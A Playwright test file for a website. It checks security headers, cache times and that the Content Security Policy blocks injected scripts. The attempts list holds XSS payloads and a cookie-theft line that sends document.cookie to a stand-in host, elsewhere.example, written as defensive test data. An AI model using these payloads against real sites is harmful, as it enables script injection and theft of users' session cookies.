import { brand } from '@elevate/brand';
import { contentSecurityPolicy } from '../../scripts/contentSecurityPolicy.ts';
import { expect, open, test } from './fixtures.ts';
import { watchPolicy } from './watchPolicy.ts';

const everywhere = {
  'strict-transport-security': 'max-age=63072000; includeSubDomains',
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
  'permissions-policy': expect.stringContaining('camera=(), '),
};

const thirtyDays = 'public, max-age=2592000';
const oneDay = 'public, max-age=86400';
const oneHour = 'public, max-age=3600';

/** Address, status and `Cache-Control` of the answer. */
const answers: [address: string, status: number, cache: string][] = [
  ['/', 200, 'no-cache'],
  ['/de/about', 200, 'no-cache'],
  ['/retreats/2', 200, 'no-cache'],
  ['/no/such/page', 404, 'no-cache'],
  ['/about/', 301, 'no-cache'],
  // Hosting has no headers by status: a missing file is cached as long as the others beside it.
  ['/assets/of-another-version.js', 404, thirtyDays],
  ['/favicon.svg', 200, oneDay],
  ['/apple-touch-icon.png', 200, oneDay],
  ['/manifest.webmanifest', 200, oneDay],
  ['/share/about.de.jpg', 200, oneDay],
  ['/robots.txt', 200, oneHour],
  ['/sitemap.xml', 200, oneHour],
  ['/blog/feed.xml', 200, oneHour],
  ['/de/blog/feed.xml', 200, oneHour],
  ['/functions/send-contact-email', 405, 'no-cache'],
  ['/functions/newsletter-unsubscribe', 303, 'no-cache'],
];

test('every answer has the security headers and its cache time', async ({ page }) => {
  const html = await (await page.request.get('/')).text();
  const [, headScript = ''] = /<script>(.+?)<\/script>/s.exec(html) ?? [];
  const policy = contentSecurityPolicy(brand, headScript);
  const hashed = [
    /"(\/assets\/[^"]+\.js)"/,
    /href="(\/assets\/[^"]+\.css)"/,
    /href="(\/assets\/[^"]+\.woff2)"/,
    /src="(\/pictures\/[^"]+)"/,
  ].map((pattern) => pattern.exec(html)?.[1] ?? String(pattern));
  for (const [address, status, cache] of [
    ...answers,
    ...hashed.map((address) => [address, 200, thirtyDays] as const),
  ]) {
    const response = await page.request.get(address, { maxRedirects: 0 });
    expect(response.status(), address).toBe(status);
    expect(response.headers(), address).toMatchObject({
      ...everywhere,
      'content-security-policy': policy,
      'cache-control': cache,
      'cross-origin-resource-policy': address.startsWith('/share/')
        ? 'cross-origin'
        : 'same-origin',
    });
  }
  // `**` does not match a folder that begins with a dot.
  const contact = await page.request.get('/.well-known/security.txt');
  expect(contact.headers()).toMatchObject({
    'cache-control': oneHour,
    'content-type': expect.stringContaining('text/plain'),
  });
});

/** Attempts of an injected script, and the directive that blocks each. */
const attempts: [attempt: string, directive: string][] = [
  [`document.body.innerHTML = '<img src=x onerror=alert(1)>'`, 'require-trusted-types-for'],
  [`document.body.setAttribute('onclick', 'alert(1)')`, 'require-trusted-types-for'],
  [`document.createElement('script').text = 'alert(1)'`, 'require-trusted-types-for'],
  [`trustedTypes.createPolicy('anything', {})`, 'trusted-types'],
  [`import('data:text/javascript,alert(1)').catch(() => {})`, 'script-src-elem'],
  [
    `document.head.append(Object.assign(document.createElement('link'),
      { rel: 'stylesheet', href: 'https://elsewhere.example/a.css' }))`,
    'style-src-elem',
  ],
  [
    `document.head.append(Object.assign(document.createElement('style'),
      { textContent: '* { color: red }' }))`,
    'style-src-elem',
  ],
  [`document.body.setAttribute('style', 'color: red')`, 'style-src-attr'],
  [`new Image().src = 'https://elsewhere.example/?' + document.cookie`, 'img-src'],
  [`fetch('https://elsewhere.example/').catch(() => {})`, 'connect-src'],
  [`navigator.sendBeacon('https://elsewhere.example/')`, 'connect-src'],
  [
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '/about' }))`,
    'frame-src',
  ],
  [
    `document.head.append(Object.assign(document.createElement('base'),
      { href: 'https://elsewhere.example/' }))`,
    'base-uri',
  ],
  [
    `document.body.appendChild(Object.assign(document.createElement('form'),
      { action: 'https://elsewhere.example/' })).submit()`,
    'form-action',
  ],
];

test('the policy blocks what an injected script tries', async ({ page, watch }) => {
  watch.expectConsole(/Content Security Policy|requires 'Trusted|elsewhere\.example/i);
  const violations = await watchPolicy(page);
  await open(page, '/contact');
  expect(violations).toEqual([]);
  for (const [attempt, directive] of attempts) {
    violations.length = 0;
    await page.evaluate(`try { ${attempt} } catch {}`);
    await expect
      .poll(() => violations, attempt)
      .toContainEqual(expect.objectContaining({ directive }));
  }
});
